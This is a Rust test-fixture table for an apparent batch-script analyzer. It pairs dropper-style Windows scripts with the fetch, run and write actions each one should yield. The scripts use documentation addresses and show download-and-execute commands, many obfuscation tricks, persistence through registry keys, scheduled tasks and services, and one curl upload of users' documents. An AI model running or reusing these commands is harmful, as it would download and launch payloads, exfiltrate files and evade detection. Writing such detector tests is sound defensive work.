//! Batch files in the shapes that droppers have, and what they are told to do. Addresses are those
//! for documentation; nothing is there.

/// Name, script, acts.
pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
    (
        "certutil",
        "@echo off\ncertutil -urlcache -split -f http://192.0.2.7/a.exe %TEMP%\\a.exe\nstart \"\" %TEMP%\\a.exe\n",
        &[
            "fetch http://192.0.2.7/a.exe to C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\a.exe",
            "run C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\a.exe",
        ],
    ),
    (
        "powershell",
        "@powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a.exe','C:\\a.exe');Start-Process 'C:\\a.exe'\"",
        &[
            "run powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a.exe','C:\\a.exe');Start-Process 'C:\\a.exe'\"",
            "evaluate powershell",
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
            "run C:\\a.exe",
        ],
    ),
    (
        "powershell, encoded",
        "powershell.exe -NoP -enc KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADcALwBhAC4AZQB4AGUAJwAsACcAQwA6AFwAYQAuAGUAeABlACcAKQA= & exit",
        &[
            "run powershell.exe -NoP -enc KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADcALwBhAC4AZQB4AGUAJwAsACcAQwA6AFwAYQAuAGUAeABlACcAKQA=",
            "evaluate powershell",
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
        ],
    ),
    (
        "bitsadmin",
        "bitsadmin /transfer j /download /priority high http://192.0.2.7/a.exe \"%APPDATA%\\a.exe\" >nul && \"%APPDATA%\\a.exe\"",
        &[
            "fetch http://192.0.2.7/a.exe to C:\\Users\\k.tanaka\\AppData\\Roaming\\a.exe",
            "run \"C:\\Users\\k.tanaka\\AppData\\Roaming\\a.exe\"",
        ],
    ),
    (
        "curl",
        "curl -s -L -o C:\\a.exe http://192.0.2.7/a.exe && C:\\a.exe",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe", "run C:\\a.exe"],
    ),
    (
        "carets",
        "c^e^r^t^u^t^i^l -ur^lc^ache -f \"http://192.0.2.7/a.exe\" C:\\a.exe",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "letters in variables",
        "set a=cert\nset b=util\nset \"c= -urlcache\"\n%a%%b%%c% -f http://192.0.2.7/a.exe C:\\a.exe",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "substrings",
        "set z=lhcertutilpq\n%z:~2,8% -urlcache -f http://192.0.2.7/a.exe C:\\a.exe\n%comspec:~-7,3% /c start %z:~-2,1%%z:~-1%.exe",
        &[
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
            "run cmd /c start pq.exe",
            "evaluate batch",
            "run pq.exe",
        ],
    ),
    (
        "an alphabet",
        "@echo off\nset \"q=abcdefghijklmnopqrstuvwxyz -/:.0123456789\"\n%q:~2,1%%q:~4,1%%q:~17,1%%q:~19,1%%q:~20,1%%q:~19,1%%q:~8,1%%q:~11,1%%q:~26,1%%q:~27,1%urlcache -f http%q:~29,1%//192.0.2.7/a.exe C:\\a.exe",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "replacement",
        "set x=c@rtutil -urlcach@ -f http://192.0.2.7/a.ex@ C:\\a.ex@\n%x:@=e%",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "undefined variables between",
        "%aa%cer%bb%tut%cc%il -url%dd%cache -f http://192.0.2.7/a.exe C:\\a.exe",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "delayed",
        "@echo off\nsetlocal enabledelayedexpansion\nset a=certutil\nset b=http://192.0.2.7/a.exe\n!a! -urlcache -f !b! C:\\a!b:~-4!",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "cmd with delayed expansion",
        "cmd /V:ON /C \"set x=c@rtutil -urlcach@ -f http://192.0.2.7/a.ex@ C:\\a.ex@&&!x:@=e!\"",
        &[
            "run cmd /V:ON /C \"set x=c@rtutil -urlcach@ -f http://192.0.2.7/a.ex@ C:\\a.ex@&&!x:@=e!\"",
            "evaluate batch",
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
        ],
    ),
    (
        "reversed in a loop",
        "@echo off\nsetlocal enabledelayedexpansion\nset s=exe.a\\:C exe.a/7.2.0.291//:ptth f- ehcaclru- litutrec\nfor /L %%i in (60,-1,0) do set r=!r!!s:~%%i,1!\n%r%",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "for /f over a text",
        "for /f \"tokens=1,2 delims=|\" %%a in (\"http://192.0.2.7/a.exe|C:\\a.exe\") do certutil -urlcache -f %%a %%b",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "for /f over a command",
        "for /f \"delims=\" %%i in ('echo http://192.0.2.7/a.exe') do curl -o C:\\a.exe %%i",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "for over words",
        "for %%h in (192.0.2.1 192.0.2.2) do (\n  curl -o C:\\%%~nh.exe http://%%h/a\n)",
        &[
            "fetch http://192.0.2.1/a to C:\\192.0.2.exe",
            "fetch http://192.0.2.2/a to C:\\192.0.2.exe",
        ],
    ),
    (
        "call",
        "@echo off\ncall :get http://192.0.2.7/a.exe \"C:\\a.exe\"\ngoto :eof\n:get\ncertutil -urlcache -f %1 %~2\nexit /b\n",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "call expands twice",
        "set n=1\nset u1=http://192.0.2.7/a.exe\ncall curl -o C:\\a.exe %%u%n%%%",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "goto",
        "@echo off\ngoto b\n:a\ncurl -o C:\\a.exe http://192.0.2.7/a.exe\ngoto :eof\n:b\ngoto a\n",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "unknown condition",
        "if exist C:\\q.txt goto done\ncurl -o C:\\a.exe http://192.0.2.7/a.exe\nexit\n:done\ncurl http://192.0.2.8/b",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe", "fetch http://192.0.2.8/b"],
    ),
    (
        "fallback",
        "curl -o C:\\a.exe http://192.0.2.7/a.exe || certutil -urlcache -f http://192.0.2.8/b C:\\a.exe",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe", "fetch http://192.0.2.8/b to C:\\a.exe"],
    ),
    (
        "error level",
        "net session >nul 2>&1\nif %errorlevel% neq 0 (\n  powershell Start-Process C:\\b.exe -Verb runAs\n) else (\n  curl -o C:\\a.exe http://192.0.2.7/a.exe\n)",
        &[
            "run net session",
            "run powershell Start-Process C:\\b.exe -Verb runAs",
            "evaluate powershell",
            "run C:\\b.exe",
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
        ],
    ),
    (
        "a script is written and run",
        "@echo off\necho Set x=CreateObject(\"MSXML2.XMLHTTP\")> %temp%\\d.vbs\necho x.Open \"GET\",\"http://192.0.2.7/a.exe\",False>> %temp%\\d.vbs\necho x.Send>> %temp%\\d.vbs\ncscript //nologo %temp%\\d.vbs",
        &[
            "write C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\d.vbs 91",
            "run cscript //nologo C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\d.vbs",
            "fetch http://192.0.2.7/a.exe",
        ],
    ),
    (
        "a block is written",
        "(\necho $u='http://192.0.2.7/a.exe'\necho iwr $u -OutFile C:\\a.exe\n)>d.ps1\npowershell -ep bypass -file d.ps1",
        &[
            "write d.ps1 55",
            "run powershell -ep bypass -file d.ps1",
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
        ],
    ),
    (
        "certutil decodes what was written",
        "echo -----BEGIN CERTIFICATE----->x.b64\necho Y3VybCAtbyBDOlxhLmV4ZSBodHRwOi8vMTkyLjAuMi43L2EuZXhlDQo=>>x.b64\necho -----END CERTIFICATE----->>x.b64\ncertutil -decode x.b64 x.bat\ncall x.bat",
        &[
            "write x.b64 114",
            "write x.bat 41",
            "run x.bat",
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
        ],
    ),
    (
        "registry and tasks",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /t REG_SZ /d \"C:\\a.exe\" /f\nschtasks /create /sc onlogon /tn Upd /tr \"C:\\a.exe\" /f\nsc create Upd binPath= C:\\a.exe",
        &[
            "set HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd = C:\\a.exe",
            "set task Upd = C:\\a.exe",
            "set service Upd = C:\\a.exe",
        ],
    ),
    (
        "mshta",
        "start /b mshta http://192.0.2.7/a.hta",
        &["run mshta http://192.0.2.7/a.hta", "fetch http://192.0.2.7/a.hta"],
    ),
    (
        "piped into powershell",
        "echo iwr http://192.0.2.7/a.exe -OutFile C:\\a.exe | powershell -",
        &["run powershell -", "evaluate powershell", "fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "set /p without a line feed",
        "<nul set /p =cu>c.bat\n<nul set /p =rl -o C:\\a.exe http://192.0.2.7/a.exe>>c.bat\ncall c.bat",
        &["write c.bat 39", "run c.bat", "fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "arithmetic",
        "set /a n=(3+4)*27+3\nset /a m=n%%5,k=0x7\ncurl -o C:\\a.exe http://%n%.0.%m%.%k%/a.exe",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "endless",
        ":x\ncurl -o C:\\a.exe http://192.0.2.7/a.exe\ntimeout /t 60\ngoto x\n",
        &["fetch http://192.0.2.7/a.exe to C:\\a.exe"],
    ),
    (
        "wmic and environment",
        "set x=iwr http://192.0.2.7/a.exe -OutFile C:\\a.exe\nwmic process call create \"powershell -c iex $env:x\"",
        &[
            "run powershell -c iex $env:x",
            "evaluate powershell",
            "evaluate powershell",
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
        ],
    ),
    (
        "PowerShell reads the batch itself",
        "@echo off\npowershell -c \"iex ((Get-Content '%~f0' | ? {$_ -like '::*'}) -replace '^::','')\"\nexit /b\n::iwr http://192.0.2.7/a.exe -OutFile C:\\a.exe\n",
        &[
            "run powershell -c \"iex ((Get-Content 'C:\\Users\\k.tanaka\\Downloads\\script.bat' | ? {$_ -like '::*'}) -replace '^::','')\"",
            "evaluate powershell",
            "evaluate powershell",
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
        ],
    ),
    (
        "findstr takes a script out of itself",
        "@echo off\nfindstr /b /v \"@ f p e\" \"%~f0\" > %temp%\\q.ps1\npowershell -f %temp%\\q.ps1\nexit\niwr http://192.0.2.7/a.exe -OutFile C:\\a.exe\n",
        &[
            "write C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\q.ps1 46",
            "run powershell -f C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\q.ps1",
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
        ],
    ),
    ("ping waits", "ping -n 10 127.0.0.1 >nul\nping c2.example", &["connect c2.example"]),
    (
        "nested cmd",
        "cmd /c \"cmd /c \"curl -o C:\\a.exe http://192.0.2.7/a.exe\"\"",
        &[
            "run cmd /c \"cmd /c \"curl -o C:\\a.exe http://192.0.2.7/a.exe\"\"",
            "evaluate batch",
            "run cmd /c \"curl -o C:\\a.exe http://192.0.2.7/a.exe\"",
            "evaluate batch",
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
        ],
    ),
    (
        "loop of letters on a command line",
        "cmd /c \"for /f \"tokens=*\" %%a in ('echo curl -o C:\\a.exe http://192.0.2.7/a.exe') do %%a\"",
        &[
            "run cmd /c \"for /f \"tokens=*\" %a in ('echo curl -o C:\\a.exe http://192.0.2.7/a.exe') do %a\"",
            "evaluate batch",
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
        ],
    ),
    (
        "for /r over what it wrote, and over what is not known",
        "echo curl -o C:\\a.exe http://192.0.2.7/a.exe>%TEMP%\\q\\one.cmd\nfor /r %TEMP% %%f in (*.cmd) do call \"%%f\"\nfor /r C:\\Users %%f in (*.docx) do curl -T \"%%f\" http://192.0.2.7/up\nfor /r D:\\ %%f in (.) do echo %%f\n",
        &[
            "write C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\q\\one.cmd 41",
            "run \"C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\q\\one.cmd\"",
            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
            "fetch http://192.0.2.7/up",
        ],
    ),
    (
        "for /d",
        "for /d %%d in (C:\\Users\\* D:\\x) do start %%d\\run.exe",
        &["run C:\\Users\\*\\run.exe", "run D:\\x\\run.exe"],
    ),
    (
        "a label that calls itself for each letter",
        "@echo off\nsetlocal enabledelayedexpansion\nset s=lru,c http://192.0.2.7/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\nset r=\ncall :d\ncurl !r:~6!\nexit /b\n:d\nif \"!s!\"==\"\" exit /b\nset r=!r!!s:~0,1!\nset s=!s:~1!\ncall :d\nexit /b\n",
        &[
            "fetch http://192.0.2.7/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        ],
    ),
    (
        "vbscript by echo",
        "echo CreateObject(\"WScript.Shell\").Run \"http://192.0.2.7/\" ^& \"a\">%TEMP%\\a.vbs\nwscript //b %TEMP%\\a.vbs",
        &[
            "write C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\a.vbs 61",
            "run wscript //b C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\a.vbs",
            "run http://192.0.2.7/a",
        ],
    ),
    (
        "title behind a switch",
        r#"start /b "" C:\Windows\System32\curl.exe http://192.0.2.7/a.exe"#,
        &["fetch http://192.0.2.7/a.exe"],
    ),
    (
        "separators of a command",
        r#",;,C^Md.e^xe,;,/^C,;,(("cert"util -url""cache -f http://192.0.2.7/a.exe C:\a.exe))"#,
        &[
            r#"run CMd.exe /C,;,(("cert"util -url""cache -f http://192.0.2.7/a.exe C:\a.exe))"#,
            "evaluate batch",
            r"fetch http://192.0.2.7/a.exe to C:\a.exe",
        ],
    ),
    (
        "a script of rundll32 is not a URL",
        r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.7/a").Exec();"#,
        &[
            r#"run rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.7/a").Exec();"#,
            "evaluate javascript",
            "fetch http://192.0.2.7/a",
        ],
    ),
];
